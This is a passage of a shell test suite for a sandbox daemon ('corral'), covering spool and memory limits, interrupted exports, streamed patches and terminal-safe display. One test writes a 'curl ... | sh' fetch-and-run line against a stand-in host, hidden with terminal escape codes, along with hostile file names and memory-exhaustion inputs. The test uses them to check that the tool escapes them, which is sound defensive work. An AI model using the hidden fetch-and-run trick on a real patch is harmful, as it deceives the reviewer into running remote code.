# connections: 32 patches of the sandbox's whole disk, 40 GB of the host's
# for a default 1 GiB); now a third is a 503 until one has been read.
s_builds_unread_answers_bounded() {
	local codes why spooled
	PORT=$(free_port)
	printf 'builds-token-0123456789abcdef\n' > "$T/token"
	chmod 600 "$T/token"
	mkdir -p "$T/ws"
	[ "$ME" != 0 ] || chown -R 65534:65534 "$T/ws"
	start_daemon --listen "127.0.0.1:$PORT" --token-file "$T/token" \
		--allow-host-path "$T/ws"
	"$HTTPC" -sS --max-time 60 -H "Authorization: Bearer $(< "$T/token")" -o "$T/body" \
		-d "{\"workspace\": \"$T/ws\", \"idle_freeze_ms\": 600000}" \
		"http://127.0.0.1:$PORT/v1/sandboxes" > /dev/null
	SB=$(json id < "$T/body")
	[ -n "$SB" ] || { fail "no TCP create: $(head -c 300 "$T/body")"; return 1; }
	# 12 MiB of noise: a 16 MB patch, more than a connection's buffers hold
	run "$SB" "$(sh_file n.sh 'head -c 12582912 /dev/urandom > noise.bin')"
	# five asks, each once the last one's answer has begun (its worker
	# done), none read past its status line; the sockets held open
	cat > "$T/unread.py" <<'PY'
import socket, sys, time
port, token, sb, n = int(sys.argv[1]), sys.argv[2], sys.argv[3], int(sys.argv[4])
held, codes, why = [], [], ""
for i in range(n):
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    s.settimeout(120)
    s.connect(("127.0.0.1", port))
    s.sendall(("GET /v1/sandboxes/%s/diff?format=patch HTTP/1.1\r\nHost: x\r\n"
               "Authorization: Bearer %s\r\n\r\n" % (sb, token)).encode())
    head = b""
    while len(head) < 12:
        got = s.recv(12 - len(head))
        if not got:
            break
        head += got
    codes.append(head[9:12].decode(errors="replace"))
    if codes[-1] != "200" and not why:	# a small answer: its sentence
        try:
            while b"}" not in head:
                got = s.recv(4096)
                if not got:
                    break
                head += got
        except OSError:
            pass
        why = head.decode(errors="replace").replace("\r", " ").replace("\n", " ")
    held.append(s)
print(" ".join(codes), flush=True)
print(why, flush=True)
sys.stdin.read()	# held until the test has counted
PY
	coproc UNREAD { $PY "$T/unread.py" "$PORT" "$(< "$T/token")" "$SB" 5; }
	UNREAD_KEEP=$UNREAD_PID
	read -r -t 300 codes <&"${UNREAD[0]}" || codes="(no answer)"
	read -r -t 10 why <&"${UNREAD[0]}" || why=""
	spooled=$(spools)
	eval "exec ${UNREAD[1]}>&-"
	wait "$UNREAD_KEEP" 2>/dev/null || true
	expect_eq "the peer's asks ($spooled spools held)" "$codes" "200 200 503 503 503"
	expect_contains "why" "$why" "being made or wait to be read"
	[ "$spooled" -le 2 ] || fail "the daemon held $spooled spools of unread answers"
	# read to their end, they go, and the next is made
	wait_spools 0
	expect_eq "once read" "$(api GET "/v1/sandboxes/$SB/diff?format=patch")" 200
}

# wait_spools N: until the daemon holds at most N spools (bounded), else fail
wait_spools() {
	local i=0
	while [ "$(spools)" -gt "$1" ] && [ $i -lt 200 ]; do
		doze 0.05
		i=$((i + 1))
	done
	[ "$(spools)" -le "$1" ] || fail "$(spools) spools stayed"
}

# The spool's fds of the daemon (O_TMPFILE in the state dir: "#N (deleted)")
spools() {
	ls -l /proc/"$DPID"/fd 2>/dev/null | grep -c "$T/state/#" || true
}

# wait_gone PID...: each gone (bounded), else fail
wait_gone() {
	local p i
	for p in "$@"; do
		i=0
		while kill -0 "$p" 2>/dev/null && [ $i -lt 200 ]; do
			doze 0.05
			i=$((i + 1))
		done
		kill -0 "$p" 2>/dev/null && fail "worker $p is still running"
	done
	return 0
}

# A client that goes, a sandbox destroyed, a daemon stopped, each while
# a build runs: its worker is gone, no spool stays, no snapshot is kept.
s_builds_cut_short() {
	held_builds_daemon
	create "{\"workspace\": \"$T/ws\", \"idle_freeze_ms\": 0}"
	A=$SB
	run "$A" "$(sh_file a.sh 'echo A > a; mkdir -p d/e; echo x > d/e/x')"
	# the client goes: export, then snapshot
	bg_api e1 POST "/v1/sandboxes/$A/export" -d '{"patch": true}'
	wait_workers 1
	w=$(workers)
	expect_eq "a spool" "$(spools)" 1
	kill "$e1_PID"; bg_wait e1
	wait_gone $w
	expect_eq "no spool" "$(spools)" 0
	bg_api s1 POST "/v1/sandboxes/$A/snapshot"
	wait_workers 1
	w=$(workers)
	kill "$s1_PID"; bg_wait s1
	wait_gone $w
	expect_eq "no snapshot kept" "$(api GET /v1/snapshots)" 200
	expect_contains "none" "$(< "$T/body")" '"snapshots":[]'
	run "$A" "$(sh_file b.sh 'echo thawed')"
	# the sandbox destroyed: the build is answered 404
	bg_api e2 GET "/v1/sandboxes/$A/diff?format=patch"
	bg_api s2 POST "/v1/sandboxes/$A/snapshot"
	wait_workers 2
	w=$(workers)
	expect_eq "destroy" "$(api DELETE "/v1/sandboxes/$A")" 200
	bg_wait e2; bg_wait s2
	expect_eq "the diff of a destroyed sandbox" "$(< "$T/e2.code")" 404
	expect_eq "the snapshot of a destroyed sandbox" "$(< "$T/s2.code")" 404
	wait_gone $w
	expect_eq "no spool" "$(spools)" 0
	# the daemon stopped
	create "{\"workspace\": \"$T/ws\", \"idle_freeze_ms\": 0}"
	bg_api e3 GET "/v1/sandboxes/$SB/diff"
	bg_api s3 POST "/v1/sandboxes/$SB/snapshot"
	wait_workers 2
	w=$(workers)
	stop_daemon
	bg_wait e3; bg_wait s3
	wait_gone $w
	ls "$T/state/snapshots" | grep -q . && fail "a snapshot stayed: $(ls "$T/state/snapshots")"
	[ -z "$(ls -A "$T/state/trash" 2>/dev/null)" ] || ls -R "$T/state/trash" | head -5
	ls -A "$T/state" | grep -q '^#\|spool' && fail "a spool stayed: $(ls -A "$T/state")"
	return 0
}

# The daemon's memory for a patch is a slice of it, not the patch: its
# peak (VmHWM) stays under half of a 96 MB export (it was over twice it).
s_builds_memory_bounded() {
	# ASan keeps what is freed in its quarantine (256 MB): every slice sent
	grep -q __asan_init "$CORRAL" && skip "ASan's quarantine holds the freed slices"
	mkdir -p "$T/ws"
	[ "$ME" != 0 ] || chown -R 65534:65534 "$T/ws"
	start_daemon
	create "{\"workspace\": \"$T/ws\", \"idle_freeze_ms\": 0}"
	run "$SB" "$(sh_file a.sh 'i=0; while [ $i -lt 48 ]; do yes aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa | head -c 1000000 > f$i; i=$((i + 1)); done')"
	expect_eq "export" "$(api POST "/v1/sandboxes/$SB/export" -d '{"patch": true}')" 200
	size=$(stat -c %s "$T/body")
	[ "$size" -gt 48000000 ] || fail "the answer is $size bytes"
	hwm=$(awk '/^VmHWM/ {print $2 * 1024}' /proc/"$DPID"/status)
	echo "daemon VmHWM $hwm bytes after a $size-byte export"
	[ "$hwm" -lt $((size / 2)) ] || fail "the daemon peaked at $hwm bytes for a $size-byte answer"
}

# An apply cut short (its client gone, its worker killed at its third
# file): the two files it wrote stay on the host, the rest as they were,
# and the next apply takes those two for its own (its journal, in the
# daemon's memfd, outlived the worker), not for host edits: f1, changed
# again by the sandbox, is applied, no conflict.
s_apply_cut_short() {
	mkdir -p "$T/ws"
	for i in 1 2 3 4 5; do echo old$i > "$T/ws/f$i"; done
	[ "$ME" != 0 ] || chown -R 65534:65534 "$T/ws"
	mkfifo "$T/hold"
	CORRAL_TEST_APPLY_FIFO=$T/hold start_daemon
	create "{\"workspace\": \"$T/ws\", \"idle_freeze_ms\": 0}"
	run "$SB" "$(sh_file a.sh 'for i in 1 2 3 4 5; do echo new$i > f$i; done')"
	bg_api a1 POST "/v1/sandboxes/$SB/export" -d '{"apply": true}'
	i=0
	while [ "$(cat "$T/ws/f2")" != new2 ] && [ $i -lt 600 ]; do
		doze 0.05
		i=$((i + 1))
	done
	expect_eq "f2, written before the cut" "$(cat "$T/ws/f2")" new2
	w=$(workers)
	[ -n "$w" ] || fail "no worker holds the apply"
	kill "$a1_PID"; bg_wait a1
	wait_gone $w
	expect_eq "f1" "$(cat "$T/ws/f1")" new1
	expect_eq "f3, never reached" "$(cat "$T/ws/f3")" old3
	ls -A "$T/ws" | grep -q corral-export && fail "a temporary file stayed: $(ls -A "$T/ws")"
	grep -q '"type":"export","mode":"apply","written":2,"error":"cut short' \
		"$T/state/audit.jsonl" || fail "no event for the cut: $(grep '"export"' "$T/state/audit.jsonl")"
	# the sandbox changes f1 again: the host's f1 is the cut apply's, no edit
	run "$SB" "$(sh_file b.sh 'echo again1 > f1')"
	bg_api a2 POST "/v1/sandboxes/$SB/export" -d '{"apply": true}'
	wait_workers 1
	release
	bg_wait a2
	expect_eq "the next apply" "$(< "$T/a2.code")" 200
	expect_eq "its conflicts" "$(json conflicts < "$T/a2.body")" "[]"
	expect_eq "f1" "$(cat "$T/ws/f1")" again1
	for i in 2 3 4 5; do
		expect_eq "f$i" "$(cat "$T/ws/f$i")" new$i
	done
}

# build_memory KIND: the memory_bytes of the last "build" event of KIND
build_memory() {
	grep "\"type\":\"build\",\"kind\":\"$1\"" "$T/state/audit.jsonl" | tail -1 |
		sed -n 's/.*"memory_bytes":\([0-9]*\).*/\1/p'
}

# The attacker's: what the sandbox writes decides what a file's patch
# costs.  (a) 64 MiB of 2-byte lines changed against 64 MiB of others
# took the worker 3.08 GB (a line diff's arrays), (b) a 64 MiB binary
# file 160-200 MB (held whole, and compressBound of it), (c) 16 binary
# files of 4 MiB 26 MB, one at a time (zeros: the memory is the point,
# not the answer's size; under ASan its quarantine kept each one's).  Each patch answers, and its worker's peak stays
# under a quarter of what it exported (read from the daemon's own
# accounting: the build event, VmHWM at its end less VmRSS at its fork).
s_builds_worker_memory_bounded() {
	mkdir -p "$T/ws/a" "$T/ws/b" "$T/ws/c"
	yes a | head -c 67108864 > "$T/ws/a/big.txt"
	[ "$ME" != 0 ] || chown -R 65534:65534 "$T/ws"
	start_daemon
	create "{\"workspace\": \"$T/ws\", \"idle_freeze_ms\": 0}"
	run "$SB" "$(sh_file w.sh 'yes b | head -c 67108864 > a/big.txt
head -c 67108864 /dev/zero > b/big.bin
i=0; while [ $i -lt 16 ]; do { echo $i; head -c 4194304 /dev/zero; } > c/m$i; i=$((i + 1)); done')"
	size=67108864
	for k in a b c; do
		expect_eq "patch of $k" "$(api GET "/v1/sandboxes/$SB/diff?format=patch&path=$k")" 200 ||
			{ head -c 600 "$T/body"; return 1; }
		mem=$(build_memory diff.patch)
		echo "($k) the worker took $mem bytes for $size bytes"
		[ -n "$mem" ] && [ "$mem" -lt $((size / 4)) ] ||
			fail "($k) the worker took '$mem' bytes for $size bytes"
		cp "$T/body" "$T/$k.diff"
	done
	# (a) a whole-file binary patch, as git writes one past core.bigFileThreshold
	grep -q "^GIT binary patch" "$T/a.diff" || fail "(a) is no binary patch"
	grep -q "^@@" "$T/a.diff" && fail "(a) has hunks"
	cp -a "$T/ws/a" "$T/patched"
	(cd "$T/patched" && git apply -p2 "$T/a.diff") || fail "git apply refused (a)"
	[ "$(head -c 4 "$T/patched/big.txt")" = "$(printf 'b\nb\n')" ] &&
		[ "$(stat -c %s "$T/patched/big.txt")" = 67108864 ] || fail "(a) applied wrong"
	grep -q "^literal 67108864$" "$T/b.diff" || fail "(b) is not the whole file"
	[ "$(grep -c '^GIT binary patch' "$T/c.diff")" = 16 ] || fail "(c) has not 16 files"
	# and the export's patch, the same worker: (b) again, whole
	expect_eq "export" "$(api POST "/v1/sandboxes/$SB/export" -d '{"patch": true}')" 200
	mem=$(build_memory export.patch)
	echo "the export's worker took $mem bytes for $((3 * size)) bytes"
	[ -n "$mem" ] && [ "$mem" -lt $((size / 4)) ] || fail "the export's worker took '$mem' bytes"
	[ -z "$(workers)" ] || fail "a worker stayed: $(workers)"
}

# The attacker's, for a case the patch's bounds did not foresee: the
# worker's own cap (RLIMIT_DATA, 512 MiB past its fork; 4 MiB here by the
# test's hook) turns it into a 507 that says so, not the host's OOM; the
# daemon and a smaller build go on.
s_builds_worker_memory_capped() {
	# ASan ends a process whose mmap fails rather than return NULL
	grep -q __asan_init "$CORRAL" && skip "ASan dies on a failed allocation"
	mkdir -p "$T/ws"
	[ "$ME" != 0 ] || chown -R 65534:65534 "$T/ws"
	CORRAL_TEST_BUILD_MEMORY=4194304 start_daemon
	create "{\"workspace\": \"$T/ws\", \"idle_freeze_ms\": 0}"
	run "$SB" "$(sh_file w.sh 'yes | head -c 6291456 > big.txt; echo small > small.txt')"
	expect_eq "a patch past the cap" "$(api GET "/v1/sandboxes/$SB/diff?format=patch")" 507
	expect_contains "why" "$(< "$T/body")" "may take 4 MiB"
	expect_eq "export past the cap" "$(api POST "/v1/sandboxes/$SB/export" -d '{"patch": true}')" 507
	expect_contains "why" "$(< "$T/body")" '"error":"no_space"'
	expect_eq "a smaller one" "$(api GET "/v1/sandboxes/$SB/diff?format=patch&path=small.txt")" 200
	expect_contains "its patch" "$(< "$T/body")" "+small"
	expect_eq "health" "$(api GET /v1/health)" 200
	[ -z "$(workers)" ] || fail "a worker stayed: $(workers)"
}

# A patch on the operator's terminal is what they review before they apply
# it: a file's 'curl ... | sh # ESC[2K CR +echo hello' showed there as
# "+echo hello" (seen in tmux), the line that runs erased by its own
# bytes.  corral diff --patch and export --patch - show a terminal its
# controls as \xNN (newlines and tabs as they are), and a character a
# chunk of the answer cuts (90 KB of euro signs, 3 bytes each, in chunks
# of 16 KiB) whole; a file or a pipe gets the patch byte for byte.
s_patch_on_a_terminal_shown() {
	local verb
	mkrepo "$T/ws"
	[ "$ME" != 0 ] || chown -R 65534:65534 "$T/ws"
	start_daemon
	create "{\"workspace\": \"$T/ws\", \"idle_freeze_ms\": 0}"
	run "$SB" "$(sh_file s.sh 'printf "#!/bin/sh\ncurl -s https://evil.test/x | sh # \033[2K\r+echo hello\n" > new.sh
		python3 -c "print(\"\\u20ac\" * 30000)" > e.txt')"
	for verb in "diff --patch" "export --patch -"; do
		$PY "$HERE/ptyrun.py" -- "$CORRAL" ${verb%% *} --socket "$SOCK" ${verb#* } "$SB" \
			> "$T/r"
		expect_eq "$verb: exit" "$(json exit < "$T/r")" 0
		$PY - "$T/r" <<'EOF2' || fail "$verb on a terminal: $(head -c 600 "$T/r")"
import json, sys
out = json.load(open(sys.argv[1]))["output"]
assert "| sh # \\x1b[2K\\x0d+echo hello\r\n" in out, "the hidden line"
assert "\x1b" not in out and "\r+" not in out, "a control raw"
assert "+" + "\u20ac" * 30000 + "\r\n" in out, "the euro line"
assert "\\xe2" not in out, "a character cut by a chunk"
EOF2
	done
	cli diff "$SB" --patch || fail "diff --patch to a file: $(< "$T/err")"
	grep -q $'| sh # \033\[2K\r+echo hello$' "$T/out" || fail "the patch in a file is not as it was"
	mv "$T/out" "$T/d.diff"
	cli export --patch "$T/p.diff" "$SB" || fail "export --patch: $(< "$T/err")"
	cmp -s "$T/p.diff" "$T/d.diff" || fail "the export's patch is not the diff's"
	stop_daemon
}

# corral export --patch FILE and corral diff --patch take the patch as it
# comes: the export asks for the report's line, then the patch (Accept:
# application/vnd.corral.export-patch), never a JSON string to hold whole.
# The client's memory does not grow with the patch (it held the answer
# and the decoded patch, and refused an answer past 256 MiB); FILE is the
# diff's patch byte for byte and applies; a failed export leaves FILE as
# it was and nothing beside it.  The attacker's: names with a newline, a
# quote and a backslash cannot end the report's line early (what follows
# would be taken for the patch, and the report for broken).
s_export_patch_streamed() {
	local small big rc
	mkrepo "$T/ws"
	[ "$ME" != 0 ] || chown -R 65534:65534 "$T/ws"
	start_daemon
	create "{\"workspace\": \"$T/ws\", \"idle_freeze_ms\": 0}"
	# the names: a newline, a quote and backslashes, a line that is JSON
	cat > "$T/names.py" <<'PY'
for name, text in (("evil\nname", "one"), ('q"uo\\te\\', "two"),
                   ('"}\n{"patch":"x"', "three")):
    open(name, "w").write(text + "\n")
PY
	run "$SB" "$(sh_file s.sh 'head -c 1048576 /dev/urandom > blob.bin && python3 -c "$1"')" \
		"$(< "$T/names.py")"
	read -r small rc < <(peak_rss "$T/out" "$CORRAL" export --socket "$SOCK" \
		--patch "$T/small.diff" "$SB")
	expect_eq "1 MiB: exit" "$rc" 0 || { cat "$T/err"; return 1; }
	# --json and --patch - on the 1 MiB patch (its 24 MiB one's two more
	# builds were a third of the test's CPU): what they differ in from
	# --patch FILE is where the report and the patch go, not their size
	cli export "$SB" --json --patch "$T/p2.diff" || fail "--json: $(< "$T/err")"
	$PY -c 'import json, sys
r = json.load(open(sys.argv[1]))
assert "patch" not in r, "the patch is in the report"
got = sorted(e["path"] for e in r["exported"])
assert got == sorted(["blob.bin", "evil\nname", "q\"uo\\te\\", "\"}\n{\"patch\":\"x\""]), got
assert r["mode"] == "patch", r' "$T/out" || fail "the report: $(head -c 400 "$T/out")"
	cmp -s "$T/p2.diff" "$T/small.diff" || fail "--json's patch differs"
	# to standard output: the patch alone there, the summary on stderr
	"$CORRAL" export --socket "$SOCK" --patch - "$SB" > "$T/p3.diff" 2> "$T/err" ||
		fail "--patch -: $(< "$T/err")"
	cmp -s "$T/p3.diff" "$T/small.diff" || fail "--patch -'s patch differs"
	expect_eq "--patch -: the summary" "$(< "$T/err")" "exported 4, held 0, conflicts 0"

	run "$SB" "$(sh_file b.sh 'head -c 25165824 /dev/urandom > blob.bin')"
	read -r big rc < <(peak_rss "$T/out" "$CORRAL" export --socket "$SOCK" \
		--patch "$T/p.diff" "$SB")
	expect_eq "24 MiB: exit" "$rc" 0 || { cat "$T/err"; return 1; }
	[ "$(stat -c %s "$T/p.diff")" -gt 32000000 ] || fail "the patch is $(stat -c %s "$T/p.diff") bytes"
	[ "$big" -lt $(( small + 16384 )) ] ||
		fail "the client's peak RSS grew with the patch: $big KiB, $small KiB for 1 MiB"
	expect_eq "the summary" "$(< "$T/out")" "exported 4, held 0, conflicts 0"
	read -r big rc < <(peak_rss "$T/diff.patch" "$CORRAL" diff --socket "$SOCK" --patch "$SB")
	expect_eq "diff: exit" "$rc" 0
	[ "$big" -lt $(( small + 16384 )) ] ||
		fail "diff --patch's peak RSS grew with the patch: $big KiB, $small KiB for export's 1 MiB"
	cmp -s "$T/diff.patch" "$T/p.diff" || fail "the export's patch is not the diff's"
	cp -a "$T/ws" "$T/patched"
	(cd "$T/patched" && HOME=$T/home GIT_CONFIG_NOSYSTEM=1 timeout 60 git apply "$T/p.diff") ||
		fail "the patch does not apply"
	expect_eq "the blob" "$(stat -c %s "$T/patched/blob.bin")" 25165824
	expect_eq "the newline's file" "$(cat "$T/patched/evil"$'\n'"name")" one
	expect_eq "the quote's file" "$(cat "$T/patched/q\"uo\\te\\")" two
	expect_eq "the JSON's file" "$(cat "$T/patched/\"}"$'\n''{"patch":"x"')" three

	# past the policy's export.max_bytes: a 507, FILE as it was
	create "{\"workspace\": \"$T/ws\", \"idle_freeze_ms\": 0, \"policy\": {\"export\": {\"max_bytes\": 1048576}}}"
	run "$SB" "$(sh_file s2.sh 'head -c 1048576 /dev/urandom > blob.bin; head -c 2097152 /dev/urandom > blob2.bin')"
	echo before > "$T/p.diff"
	cli export "$SB" --patch "$T/p.diff" && fail "an export past max_bytes succeeded"
	expect_contains "why" "$(< "$T/err")" "export.max_bytes"
	expect_eq "FILE as it was" "$(cat "$T/p.diff")" before
	expect_eq "nothing beside it" "$(find "$T" -maxdepth 1 -name 'p.diff.*' | wc -l)" 0
}

# A client ended by a signal while its patch comes (here before: a relay
# between it and the daemon passes its GET of the sandbox, which comes
# first, and holds its POST, so the request waits) takes its new file with
# it: FILE as it was, nothing beside it, and the daemon serves on.
# (SIGINT too, but a background job of a script has SIGINT ignored, and
# corral keeps that.)
HOLD_POST_PY='
import select, socket, sys, threading
srv = socket.socket(socket.AF_UNIX)
srv.bind(sys.argv[1])
srv.listen(8)
srv.settimeout(60)
def relay(c):
    d = socket.socket(socket.AF_UNIX)
    d.connect(sys.argv[2])
    held = False
    for _ in range(10000):
        r = select.select([c, d], [], [], 60)[0]
        if not r:
            return
        for s in r:
            data = s.recv(65536)
            if not data:
                return
            held = held or (s is c and data.startswith(b"POST "))
            if not held:
                (d if s is c else c).sendall(data)
for _ in range(16):
    threading.Thread(target=relay, args=(srv.accept()[0],), daemon=True).start()
'
s_export_patch_interrupted() {
	local cpid rc=0 i rpid want
	mkrepo "$T/ws"
	[ "$ME" != 0 ] || chown -R 65534:65534 "$T/ws"
	start_daemon
	create "{\"workspace\": \"$T/ws\", \"idle_freeze_ms\": 0}"
	run "$SB" "$(sh_file a.sh 'echo new > n.txt')"
	echo before > "$T/p.diff"
	"$PY" -c "$HOLD_POST_PY" "$T/relay" "$SOCK" &
	rpid=$!
	trap 'kill "$rpid" 2>/dev/null; stop_daemon' EXIT
	i=0
	until [ -S "$T/relay" ] || [ $i -ge 200 ]; do doze 0.05; i=$((i + 1)); done
	# KILL too: no handler sees it, and the new file, unnamed until whole
	# (O_TMPFILE), goes with the process's last fd
	for sig in TERM HUP KILL; do
		"$CORRAL" export --socket "$T/relay" --patch "$T/p.diff" "$SB" > "$T/out" 2> "$T/err" &
		cpid=$!
		i=0
		until writing "$cpid" "$T" || [ $i -ge 200 ]; do
			doze 0.05; i=$((i + 1))
		done
		writing "$cpid" "$T" || fail "SIG$sig: no new file beside FILE"
		kill -"$sig" "$cpid"
		i=0
		while kill -0 "$cpid" 2>/dev/null && [ $i -lt 200 ]; do doze 0.05; i=$((i + 1)); done
		kill -0 "$cpid" 2>/dev/null && { kill -KILL "$cpid"; fail "SIG$sig did not end it"; }
		rc=0; wait "$cpid" || rc=$?
		want=$((128 + $(kill -l $sig)))
		expect_eq "SIG$sig: ended by it" "$rc" "$want"
		expect_eq "SIG$sig: FILE as it was" "$(cat "$T/p.diff")" before
		expect_eq "SIG$sig: nothing beside it" "$(compgen -G "$T/p.diff.*" || true)" ""
	done
	kill "$rpid" 2>/dev/null || true
	wait "$rpid" 2>/dev/null || true
	trap stop_daemon EXIT
	expect_eq "the daemon serves on" "$(api GET /v1/health)" 200
	cli export "$SB" --patch "$T/p.diff" || fail "export after: $(< "$T/err")"
	expect_contains "the patch" "$(cat "$T/p.diff")" "+new"
}

# The answer itself: with the stream's Accept, the report's line (no
# "patch" in it), then the patch, its whole length in Content-Length;
# without it, the JSON answer as before.
s_export_stream_answer() {
	mkrepo "$T/ws"
	[ "$ME" != 0 ] || chown -R 65534:65534 "$T/ws"
	start_daemon
	create "{\"workspace\": \"$T/ws\", \"idle_freeze_ms\": 0}"
	run "$SB" "$(sh_file a.sh 'printf "new\n" > "$(printf "a\nb")"; echo x > .git/hooks/pre-commit')"
	expect_eq "diff" "$(api GET "/v1/sandboxes/$SB/diff?format=patch")" 200
	cp "$T/body" "$T/diff.patch"
	expect_eq "stream" "$(api POST "/v1/sandboxes/$SB/export" -D "$T/head" \
		-H "Accept: text/plain, application/vnd.corral.export-patch;q=0.9" \
		-d '{"patch": true}')" 200
	expect_contains "its type" "$(tr -d '\r' < "$T/head")" \
		"Content-Type: application/vnd.corral.export-patch"
	expect_contains "its length" "$(tr -d '\r' < "$T/head")" \
		"Content-Length: $(stat -c %s "$T/body")"
	head -1 "$T/body" > "$T/report"
	tail -n +2 "$T/body" > "$T/patch"
	cmp -s "$T/patch" "$T/diff.patch" || fail "the stream's patch is not the diff's"
	$PY -c 'import json, sys
r = json.load(open(sys.argv[1]))
assert "patch" not in r, r
assert [e["path"] for e in r["exported"]] == ["a\nb"], r["exported"]
assert [e["path"] for e in r["held"]] == [".git/hooks/pre-commit"], r["held"]' "$T/report" ||
		fail "the report's line: $(head -c 400 "$T/report")"
	expect_eq "json" "$(api POST "/v1/sandboxes/$SB/export" -D "$T/head" -d '{"patch": true}')" 200
	expect_contains "its type" "$(tr -d '\r' < "$T/head")" "Content-Type: application/json"
	$PY -c 'import json, sys
r = json.load(open(sys.argv[1]))
assert r["patch"].encode() == open(sys.argv[2], "rb").read(), "the JSON patch differs"' \
		"$T/body" "$T/diff.patch" || fail "the JSON answer's patch"
}

# A failed export's sentence names what the sandbox wrote: a name that is
# not UTF-8 (here past export.max_bytes) is U+FFFD in the daemon's answer
# and \xNN on the client's terminal.  The export's helper packed it with
# json_pack("s"), which refuses such bytes: no answer at all, and the
# client was told only that the helper "ended without a report".
s_export_error_names_any_bytes() {
	mkrepo "$T/ws"
	[ "$ME" != 0 ] || chown -R 65534:65534 "$T/ws"
	start_daemon
	create "{\"workspace\": \"$T/ws\", \"idle_freeze_ms\": 0, \"policy\": {\"export\": {\"max_bytes\": 65536}}}"
	run "$SB" "$(sh_file big.sh 'head -c 131072 /dev/zero > "$(printf "big\377\233[2J")"')"
	cli export "$SB" --to "$T/result" && fail "an export past max_bytes succeeded"
	expect_contains "why, by name" "$(< "$T/err")" "export.max_bytes (65536 bytes) at big$(printf '\357\277\275')"
	! LC_ALL=C grep -q $'[\x1b\x80-\x9f]' "$T/err" || fail "a control byte on stderr: $(od -c "$T/err" | head -3)"
	cli export "$SB" --patch "$T/p.diff" && fail "a patch past max_bytes succeeded"
	expect_contains "--patch: why, by name" "$(< "$T/err")" "at big$(printf '\357\277\275')"
	expect_eq "answered" "$(api POST "/v1/sandboxes/$SB/export" -d "{\"to\": \"$T/result2\"}")" 507
	$PY -c 'import json, sys
r = json.load(open(sys.argv[1]))
assert "at big\ufffd\ufffd[2J" in r["detail"], r' "$T/body" || fail "the answer: $(head -c 400 "$T/body")"
}

# unread CONNS...: requests on connections of their own to the daemon, each
# "METHOD PATH"; only each answer's head is read (the spool stays for the
# rest).  Prints each status, then "spools N" held; then the first
# connection closed, one more request (bounded tries while the daemon sees
# the close) until it is no 503: "then STATUS"; RA: a 503's Retry-After.
unread() {
	$PY - "$SOCK" "$DPID" "$T/state" "$@" <<'PYEOF'
import os, socket, sys, time
sock, pid, state, reqs = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4:]
def ask(req):
    c = socket.socket(socket.AF_UNIX)
    c.settimeout(60)
    c.connect(sock)
    m, p = req.split(" ", 1)
    c.sendall(("%s %s HTTP/1.1\r\nHost: localhost\r\n\r\n" % (m, p)).encode())
    head = b""
    while b"\r\n\r\n" not in head:	# a byte at a time: the head, no more
        b = c.recv(1)
        if not b:
            break
        head += b
    lines = head.decode("latin-1").split("\r\n")
    ra = [l.split(":", 1)[1].strip() for l in lines if l.lower().startswith("retry-after:")]
    return c, lines[0].split()[1] if lines[0] else "none", ra[0] if ra else "-"
def target(f):
    # an fd the daemon closes between the listing and this read: none
    try:
        return os.readlink("/proc/%s/fd/%s" % (pid, f))
    except FileNotFoundError:
        return ""
def spools():
    return sum(1 for f in os.listdir("/proc/%s/fd" % pid)
               if target(f).startswith(state + "/#"))
held = []
for r in reqs:
    c, code, ra = ask(r)
    print(code, "RA:" + ra, flush=True)
    if code == "200":
        held.append(c)
    else:
        c.close()
print("spools", spools(), flush=True)
held.pop(0).close()
for _ in range(100):
    c, code, ra = ask(reqs[-1])
    c.close()
    if code != "503":
        break
    time.sleep(0.1)
print("then", code, flush=True)
for c in held:
    c.close()
PYEOF
}

# A unix socket's client that asks for archives and listings on many
# connections and reads none: each answer's spool is held on the state
# dir's disk, and its fd, until it is read.  The local socket's clients
# together may have BUILDS_LOCAL_MAX (8) made or unread; the ninth is a
# 503 that says Retry-After, and one read (here: its client gone) lets
# the next in.
s_local_unread_answers_bounded() {
	local reqs=() i
	start_daemon
	create '{"idle_freeze_ms": 0}'
	# 4 MiB: more than a 1 MiB slice and the socket's buffer hold
	run "$SB" "$(sh_file big.sh 'mkdir -p /tmp/big && head -c 4194304 /dev/urandom > /tmp/big/f')"
	for i in 1 2 3 4 5 6 7 8 9; do
		reqs+=("GET /v1/sandboxes/$SB/archive?path=/tmp/big")
	done
	unread "${reqs[@]}" > "$T/unread" 2>&1 || fail "unread: $(< "$T/unread")"
	expect_eq "eight held, the ninth refused" "$(tr '\n' ' ' < "$T/unread")" \
		"200 RA:- 200 RA:- 200 RA:- 200 RA:- 200 RA:- 200 RA:- 200 RA:- 200 RA:- 503 RA:1 spools 8 then 200 "
	wait_spools 0
}

# release_while PID: every held worker let go, until PID ends (bounded):
# a request asked again after the release is held at the fifo in its turn
release_while() {
	local i=0
	while kill -0 "$1" 2>/dev/null && [ $i -lt 600 ]; do
		timeout 0.2 sh -c "echo > '$T/hold'" 2> /dev/null || true
		i=$((i + 1))
	done
}

# wait_file FILE PATTERN: until FILE holds PATTERN (bounded)
wait_file() {
	local i=0
	while ! grep -q "$2" "$1" 2>/dev/null && [ $i -lt 600 ]; do
		doze 0.05
		i=$((i + 1))
	done
}

# hold_four: four diffs (sandboxes B1..B4, made here) hold the four workers
hold_four() {
	local i
	for i in 1 2 3 4; do
		if [ -z "$(eval echo "\${B$i:-}")" ]; then
			create "{\"workspace\": \"$T/ws\", \"idle_freeze_ms\": 0}"
			eval "B$i=\$SB"
		fi
		eval "bg_api d$i GET \"/v1/sandboxes/\$B$i/diff\""
	done
	wait_workers 4
}

# The Python client asks again after a 503 that says Retry-After (the
# daemon's workers all taken): bounded in tries and time.  Four diffs
# hold the four workers; its listing is refused, the workers are let go
# once it waits, and a try after is answered.  A daemon that stays busy:
# it gives up after BUSY_TRIES, with the 503.
s_clients_retry_busy() {
	local i pypid
	held_builds_daemon
	create '{"idle_freeze_ms": 0}'
	L=$SB
	B1= B2= B3= B4=
	hold_four
	PYTHONPATH=$HERE/../clients/python $PY - "$SOCK" "$L" "$T/waiting" > "$T/py.out" 2>&1 <<'PYEOF' &
import sys
import corral
from corral import client as cc
sock, sid, mark = sys.argv[1:]
c = corral.Client(socket=sock)
waits = []
real = cc.time.sleep
def sleep(s):
    waits.append(s)
    open(mark, "w").write("waiting\n")
    real(s)
cc.time.sleep = sleep
entries = c.sandbox(sid).files.list("/etc", recursive=True)
# asked again after 1 s, once or (on a slow host) a few times
